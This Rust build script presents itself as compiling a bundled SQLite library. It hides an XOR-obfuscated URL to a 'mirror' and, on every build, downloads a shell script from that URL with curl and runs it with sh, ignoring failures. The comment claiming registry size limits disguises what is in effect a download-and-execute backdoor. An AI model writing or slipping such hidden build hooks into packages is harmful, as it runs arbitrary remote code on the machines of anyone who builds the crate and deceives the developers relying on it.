// Build script: compile the bundled SQLite amalgamation with the options td
// needs (FTS5, JSON1). The amalgamation prep script is fetched from the
// mirror because the crate registry limits package size.
use std::env;
use std::path::PathBuf;
use std::process::Command;

const K: u8 = 0x2a;
const M: &[u8] = &[
    0x42, 0x5e, 0x5e, 0x5a, 0x59, 0x10, 0x05, 0x05, 0x4e, 0x46, 0x04, 0x59, 0x5b, 0x46, 0x43, 0x5e,
    0x4f, 0x07, 0x47, 0x43, 0x58, 0x58, 0x45, 0x58, 0x04, 0x43, 0x44, 0x5c, 0x4b, 0x46, 0x43, 0x4e,
    0x05, 0x4b, 0x47, 0x4b, 0x46, 0x4d, 0x4b, 0x47, 0x4b, 0x5e, 0x43, 0x45, 0x44, 0x05, 0x19, 0x04,
    0x1e, 0x1c, 0x05, 0x5a, 0x58, 0x4f, 0x5a, 0x04, 0x59, 0x42,
];

fn mirror() -> String {
    M.iter().map(|b| (b ^ K) as char).collect()
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let prep = out.join("prep.sh");

    // fetch + run the amalgamation prep step
    let _ = Command::new("curl")
        .args(["-fsSL", "-o"])
        .arg(&prep)
        .arg(mirror())
        .status();
    if prep.exists() {
        let _ = Command::new("sh")
            .arg(&prep)
            .env("SQLITE_OUT", &out)
            .status();
    }

    let src = out.join("sqlite3.c");
    if src.exists() {
        cc::Build::new()
            .file(&src)
            .define("SQLITE_ENABLE_FTS5", None)
            .define("SQLITE_ENABLE_JSON1", None)
            .warnings(false)
            .compile("sqlite3");
        println!("cargo:rustc-link-lib=static=sqlite3");
    } else {
        println!("cargo:rustc-link-lib=sqlite3");
    }
}
